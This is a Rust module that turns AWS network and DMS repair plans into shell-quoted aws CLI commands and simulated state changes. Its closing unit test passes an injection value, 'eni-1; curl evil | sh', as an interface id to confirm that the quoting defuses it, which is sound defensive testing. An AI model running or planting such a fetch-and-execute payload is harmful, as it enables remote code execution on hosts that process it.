//! Repairs as data: what to change, the commands for it, and the facts as they would be.
//!
//! Commands are rendered here and nowhere else. They name only ids that are in the facts or that an
//! earlier command of the same remedy made; where a value can't be known there is no command.

mod account;
mod dms;
mod place;
mod server;

use ipnet::Ipv4Net;
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

use crate::facts::{
    Fact, Facts,
    cluster::{AccessEntry, Cluster},
    inventory::{
        List,
        dms::Certificate,
        ec2::{
            BlockPublicAccessStates, InternetGatewayAttachment, IpPermission, IpRange, NatGateway,
            NetworkAclEntry, PortRange, Route,
        },
    },
    is_same_host,
};

use crate::trust::ISRG_ROOT_X1_PEM;
pub use account::{AccountChange, AccountPlace};

pub use dms::{DmsChange, EndpointFields, ReplicationFields};
pub(crate) use dms::{VPC_POLICY, VPC_ROLE};
pub use place::PlaceChange;
pub use server::ServerChange;

/// How to mend a finding.
#[derive(Clone, Debug, Default, Deserialize, JsonSchema, PartialEq, Serialize)]
pub struct Remedy {
    /// In words.
    pub advice: String,
    /// As commands, in order.
    pub commands: Vec<String>,
    /// As data.
    pub changes: Vec<Change>,
}

impl From<AccountChange> for Change {
    fn from(change: AccountChange) -> Self {
        Self::Account(change)
    }
}

impl From<DmsChange> for Change {
    fn from(change: DmsChange) -> Self {
        Self::Dms(change)
    }
}

impl From<PlaceChange> for Change {
    fn from(change: PlaceChange) -> Self {
        Self::Place(change)
    }
}

impl From<ServerChange> for Change {
    fn from(change: ServerChange) -> Self {
        Self::Server(change)
    }
}

impl Remedy {
    /// A remedy of changes, with the words for those that no command makes.
    pub fn of(changes: Vec<Change>, advice: String) -> Self {
        let commands = changes.iter().flat_map(Change::commands).collect();
        Self { advice, commands, changes }
    }

    /// Adds what another remedy of the same cause changes.
    pub(crate) fn add(&mut self, other: &Self) {
        for change in &other.changes {
            if !self.changes.contains(change) {
                self.commands.extend(change.commands());
                self.changes.push(change.clone());
            }
        }
    }
}

/// One repair.
#[derive(Clone, Debug, Deserialize, JsonSchema, PartialEq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Change {
    /// Change an account of a database server.
    Account(AccountChange),
    /// Put entries on a cluster's IP access list.
    AllowAddresses {
        /// The cluster.
        host: String,
        /// The entries.
        entries: Vec<AccessEntry>,
    },
    /// Let a packet pass a network ACL.
    AddAclEntry {
        /// The region.
        region: String,
        /// The ACL.
        acl: String,
        /// Whether outbound.
        egress: bool,
        /// A free number before the rule that denies.
        number: i64,
        /// The other side.
        #[schemars(with = "String")]
        peer: Ipv4Net,
        /// First and last destination port.
        ports: (u16, u16),
    },
    /// Attach an internet gateway.
    AttachInternetGateway {
        /// The region.
        region: String,
        /// The gateway.
        gateway: String,
        /// The VPC.
        vpc: String,
    },
    /// Let a packet pass a security group.
    AllowInGroup {
        /// The region.
        region: String,
        /// The group.
        group: String,
        /// Whether outbound.
        egress: bool,
        /// The other side.
        #[schemars(with = "String")]
        peer: Ipv4Net,
        /// The port.
        port: u16,
    },
    /// Change DMS's own settings.
    Dms(DmsChange),
    /// Change names, a peering or a cluster.
    Place(PlaceChange),
    /// Change a database server's settings.
    Server(ServerChange),
    /// Turn an interface's source/destination check off.
    DisableSourceDestCheck {
        /// The region.
        region: String,
        /// The interface.
        interface: String,
    },
    /// Turn a cluster's public endpoint on.
    EnablePublicEndpoint {
        /// The cluster.
        host: String,
    },
    /// Except a subnet from VPC Block Public Access.
    ExcludeFromBlockPublicAccess {
        /// The region.
        region: String,
        /// The subnet.
        subnet: String,
        /// `allow-egress` or `allow-bidirectional`.
        mode: String,
    },
    /// Make a NAT gateway in a public subnet and send routes to it. Its address is new.
    NewNatGateway {
        /// The region.
        region: String,
        /// The VPC.
        vpc: String,
        /// The public subnet.
        subnet: String,
        /// The route tables whose route to it is made anew, with whether such a route exists.
        tables: Vec<(String, bool)>,
        /// The destination of those routes.
        destination: String,
    },
    /// Put a route into a route table.
    PutRoute {
        /// The region.
        region: String,
        /// The table.
        table: String,
        /// The destination, a CIDR.
        destination: String,
        /// `igw-…`, `nat-…` or `pcx-…`.
        target: String,
        /// Whether the table has a route to that destination already.
        replaces: bool,
    },
    /// Set an endpoint's SSL mode.
    SetSslMode {
        /// The region.
        region: String,
        /// The endpoint's ARN; none for a planned one.
        endpoint: Option<String>,
        /// `verify-full`, …
        mode: String,
        /// The certificate's ARN, where one is imported.
        certificate: Option<String>,
        /// Whether ISRG Root X1 is to be imported first.
        import_isrg_root_x1: bool,
    },
}

impl Change {
    /// The commands that make this change, in order; none where no command can.
    pub fn commands(&self) -> Vec<String> {
        // Ids come from files that anybody may have written, and these lines go into a shell.
        let quoted = self.quoted();
        match &quoted {
            Self::AllowAddresses { .. }
            | Self::EnablePublicEndpoint { .. }
            | Self::SetSslMode { endpoint: None, .. } => Vec::new(),
            Self::Account(change) => change.commands(),
            Self::Dms(change) => change.commands(),
            Self::Place(change) => change.commands(),
            Self::Server(change) => change.commands(),
            Self::AddAclEntry { region, acl, egress, number, peer, ports } => vec![format!(
                "aws ec2 create-network-acl-entry --region {region} --network-acl-id {acl} {} \
                 --rule-number {number} --protocol tcp --port-range From={},To={} \
                 --cidr-block {peer} --rule-action allow",
                if *egress { "--egress" } else { "--ingress" },
                ports.0,
                ports.1
            )],
            Self::AttachInternetGateway { region, gateway, vpc } => vec![format!(
                "aws ec2 attach-internet-gateway --region {region} --internet-gateway-id {gateway} \
                 --vpc-id {vpc}"
            )],
            Self::AllowInGroup { region, group, egress, peer, port } => vec![format!(
                "aws ec2 authorize-security-group-{} --region {region} --group-id {group} \
                 --protocol tcp --port {port} --cidr {peer}",
                if *egress { "egress" } else { "ingress" }
            )],
            Self::DisableSourceDestCheck { region, interface } => vec![format!(
                "aws ec2 modify-network-interface-attribute --region {region} \
                 --network-interface-id {interface} --no-source-dest-check"
            )],
            Self::ExcludeFromBlockPublicAccess { region, subnet, mode } => vec![format!(
                "aws ec2 create-vpc-block-public-access-exclusion --region {region} \
                 --subnet-id {subnet} --internet-gateway-exclusion-mode {mode}"
            )],
            Self::NewNatGateway { region, subnet, tables, destination, .. } => {
                let mut commands = vec![
                    format!(
                        "ALLOCATION=$(aws ec2 allocate-address --region {region} --domain vpc \
                         --query AllocationId --output text)"
                    ),
                    format!(
                        "NAT=$(aws ec2 create-nat-gateway --region {region} --subnet-id {subnet} \
                         --allocation-id \"$ALLOCATION\" --query NatGateway.NatGatewayId \
                         --output text)"
                    ),
                    format!(
                        "aws ec2 wait nat-gateway-available --region {region} \
                         --nat-gateway-ids \"$NAT\""
                    ),
                ];
                commands.extend(tables.iter().map(|(table, replaces)| {
                    put_route(region, table, destination, "--nat-gateway-id", "\"$NAT\"", *replaces)
                }));
                // The address that the access list then needs.
                commands.push(format!(
                    "aws ec2 describe-addresses --region {region} --allocation-ids \
                     \"$ALLOCATION\" --query 'Addresses[0].PublicIp' --output text"
                ));
                commands
            }
            Self::PutRoute { region, table, destination, target, replaces } => {
                let option = match target.split('-').next() {
                    Some("nat") => "--nat-gateway-id",
                    Some("pcx") => "--vpc-peering-connection-id",
                    _ => "--gateway-id",
                };
                vec![put_route(region, table, destination, option, target, *replaces)]
            }
            Self::SetSslMode {
                region,
                endpoint: Some(endpoint),
                mode,
                certificate,
                import_isrg_root_x1,
            } => {
                let modify = format!(
                    "aws dms modify-endpoint --region {region} --endpoint-arn {endpoint} \
                     --ssl-mode {mode}"
                );
                match certificate {
                    Some(certificate) => vec![format!("{modify} --certificate-arn {certificate}")],
                    None if *import_isrg_root_x1 => vec![
                        "curl -o isrgrootx1.pem https://letsencrypt.org/certs/isrgrootx1.pem"
                            .to_owned(),
                        format!(
                            "CERTIFICATE=$(aws dms import-certificate --region {region} \
                             --certificate-identifier isrg-root-x1 \
                             --certificate-pem file://isrgrootx1.pem \
                             --query Certificate.CertificateArn --output text)"
                        ),
                        format!("{modify} --certificate-arn \"$CERTIFICATE\""),
                    ],
                    // Which certificate it should be isn't known, so the command can't be given.
                    None => Vec::new(),
                }
            }
        }
    }

    /// The same change with every name fit for a shell.
    fn quoted(&self) -> Self {
        let mut change = self.clone();
        let names: Vec<&mut String> = match &mut change {
            Self::AllowAddresses { host, .. } | Self::EnablePublicEndpoint { host } => vec![host],
            // These quote their own names.
            Self::Account(_) | Self::Dms(_) | Self::Place(_) | Self::Server(_) => Vec::new(),
            Self::AddAclEntry { region, acl, .. } => vec![region, acl],
            Self::AttachInternetGateway { region, gateway, vpc } => vec![region, gateway, vpc],
            Self::AllowInGroup { region, group, .. } => vec![region, group],
            Self::DisableSourceDestCheck { region, interface } => vec![region, interface],
            Self::ExcludeFromBlockPublicAccess { region, subnet, mode } => {
                vec![region, subnet, mode]
            }
            Self::NewNatGateway { region, vpc, subnet, tables, destination } => tables
                .iter_mut()
                .map(|(table, _)| table)
                .chain([region, vpc, subnet, destination])
                .collect(),
            Self::PutRoute { region, table, destination, target, .. } => {
                vec![region, table, destination, target]
            }
            Self::SetSslMode { region, endpoint, mode, certificate, .. } => {
                [region, mode].into_iter().chain(endpoint).chain(certificate).collect()
            }
        };
        for name in names {
            *name = shell_word(name);
        }
        change
    }

    /// The facts as they would be after this change.
    pub fn apply(&self, facts: &mut Facts) {
        match self {
            Self::AllowAddresses { host, entries } => allow_addresses(facts, host, entries),
            Self::Account(change) => change.apply(facts),
            Self::Dms(change) => change.apply(facts),
            Self::Place(change) => change.apply(facts),
            Self::Server(change) => change.apply(facts),
            Self::AddAclEntry { acl, egress, number, peer, ports, .. } => {
                let entry = NetworkAclEntry {
                    rule_number: *number,
                    egress: *egress,
                    cidr_block: Some(peer.to_string()),
                    protocol: Some("6".into()),
                    port_range: Some(PortRange {
                        from: Some(ports.0.into()),
                        to: Some(ports.1.into()),
                    }),
                    rule_action: Some("allow".into()),
                    ..NetworkAclEntry::default()
                };
                if let Some(found) =
                    find(&mut facts.inventory.network_acls, |item| item.network_acl_id == *acl)
                {
                    found.entries.get_or_insert_default().push(entry);
                }
            }
            Self::AttachInternetGateway { gateway, vpc, .. } => {
                if let Some(found) = find(&mut facts.inventory.internet_gateways, |item| {
                    item.internet_gateway_id == *gateway
                }) {
                    found.attachments = Some(vec![InternetGatewayAttachment {
                        state: Some("available".into()),
                        vpc_id: Some(vpc.clone()),
                    }]);
                }
            }
            Self::AllowInGroup { group, egress, peer, port, .. } => {
                let rule = IpPermission {
                    ip_protocol: Some("tcp".into()),
                    from_port: Some((*port).into()),
                    to_port: Some((*port).into()),
                    ip_ranges: vec![IpRange { cidr_ip: Some(peer.to_string()) }],
                    ..IpPermission::default()
                };
                if let Some(found) =
                    find(&mut facts.inventory.security_groups, |item| item.group_id == *group)
                {
                    let rules = if *egress {
                        &mut found.ip_permissions_egress
                    } else {
                        &mut found.ip_permissions
                    };
                    rules.get_or_insert_default().push(rule);
                }
            }
            Self::DisableSourceDestCheck { interface, .. } => {
                if let Some(found) = find(&mut facts.inventory.network_interfaces, |item| {
                    item.network_interface_id == *interface
                }) {
                    found.source_dest_check = Some(false);
                }
            }
            Self::EnablePublicEndpoint { host } => {
                cluster(facts, host).public_endpoint_enabled = Some(Fact::Known(true));
            }
            Self::ExcludeFromBlockPublicAccess { subnet, mode, .. } => {
                if let Some(found) =
                    find(&mut facts.inventory.subnets, |item| item.subnet_id == *subnet)
                {
                    let left = if mode == "allow-egress" { "block-ingress" } else { "off" };
                    found.block_public_access_states = Some(BlockPublicAccessStates {
                        internet_gateway_block_mode: Some(left.into()),
                    });
                }
            }
            Self::NewNatGateway { vpc, subnet, tables, destination, .. } => {
                let id = "nat-to-be-made";
                facts.inventory.nat_gateways.items.push(NatGateway {
                    nat_gateway_id: id.into(),
                    vpc_id: Some(vpc.clone()),
                    subnet_id: Some(subnet.clone()),
                    state: Some("available".into()),
                    connectivity_type: Some("public".into()),
                    availability_mode: Some("zonal".into()),
                    ..NatGateway::default()
                });
                for (table, _) in tables {
                    route(facts, table, destination, id);
                }
            }
            Self::PutRoute { table, destination, target, .. } => {
                route(facts, table, destination, target);
            }
            Self::SetSslMode { endpoint: None, mode, .. } => {
                facts.asked.ssl_mode = Some(mode.clone());
            }
            Self::SetSslMode {
                endpoint: Some(arn),
                mode,
                certificate,
                import_isrg_root_x1,
                ..
            } => set_ssl_mode(facts, arn, mode, certificate.as_ref(), *import_isrg_root_x1),
        }
    }
}

/// Where no certificate is named and none is imported, somebody imports the server's own CA by hand;
/// what that will be isn't known.
fn set_ssl_mode(
    facts: &mut Facts,
    endpoint: &str,
    mode: &str,
    certificate: Option<&String>,
    import_isrg_root_x1: bool,
) {
    let arn = certificate.cloned().unwrap_or_else(|| "certificate-to-be-imported".to_owned());
    if certificate.is_none() {
        facts.inventory.certificates.items.push(Certificate {
            certificate_arn: arn.clone(),
            certificate_pem: import_isrg_root_x1.then(|| ISRG_ROOT_X1_PEM.to_owned()),
            ..Certificate::default()
        });
    }
    let Some(found) = find(&mut facts.inventory.endpoints, |item| item.endpoint_arn == endpoint)
    else {
        return;
    };
    found.ssl_mode = Some(mode.to_owned());
    found.certificate_arn = Some(arn);
    facts.asked.ssl_mode = None;
}

/// A word that a shell reads as it is written.
fn shell_word(word: &str) -> String {
    let plain = |letter: char| letter.is_ascii_alphanumeric() || "-_./:@%+,=".contains(letter);
    if !word.is_empty() && word.chars().all(plain) {
        word.to_owned()
    } else {
        format!("'{}'", word.replace('\'', r"'\''"))
    }
}

fn put_route(
    region: &str,
    table: &str,
    destination: &str,
    option: &str,
    target: &str,
    replaces: bool,
) -> String {
    format!(
        "aws ec2 {} --region {region} --route-table-id {table} \
         --destination-cidr-block {destination} {option} {target}",
        if replaces { "replace-route" } else { "create-route" }
    )
}

fn find<T>(list: &mut List<T>, wanted: impl Fn(&T) -> bool) -> Option<&mut T> {
    list.items.iter_mut().find(|item| wanted(item))
}

fn cluster<'a>(facts: &'a mut Facts, host: &str) -> &'a mut Cluster {
    let place = match facts.clusters.iter().position(|cluster| is_same_host(&cluster.host, host)) {
        Some(place) => place,
        None => {
            facts.clusters.push(Cluster { host: host.to_owned(), ..Cluster::default() });
            facts.clusters.len() - 1
        }
    };
    &mut facts.clusters[place]
}

fn allow_addresses(facts: &mut Facts, host: &str, entries: &[AccessEntry]) {
    if let Some(list) = &mut facts.asked.ip_access_list {
        list.extend(entries);
    } else if let Some(Fact::Known(list)) = &mut cluster(facts, host).access_list {
        list.extend(entries);
    }
}

fn route(facts: &mut Facts, table: &str, destination: &str, target: &str) {
    let Some(found) = find(&mut facts.inventory.route_tables, |item| item.route_table_id == table)
    else {
        return;
    };
    let mut route = Route {
        destination_cidr_block: Some(destination.to_owned()),
        origin: Some("CreateRoute".into()),
        state: Some("active".into()),
        ..Route::default()
    };
    let field = match target.split('-').next() {
        Some("nat") => &mut route.nat_gateway_id,
        Some("pcx") => &mut route.vpc_peering_connection_id,
        _ => &mut route.gateway_id,
    };
    *field = Some(target.to_owned());
    let routes = found.routes.get_or_insert_default();
    routes.retain(|known| known.destination_cidr_block.as_deref() != Some(destination));
    routes.push(route);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_id_from_a_file_can_not_become_a_command() {
        let change = Change::DisableSourceDestCheck {
            region: "us-east-1".into(),
            interface: "eni-1; curl evil | sh '".into(),
        };
        let commands = change.commands();
        assert!(commands[0].contains(r"'eni-1; curl evil | sh '\'''"), "{commands:?}");
    }
}
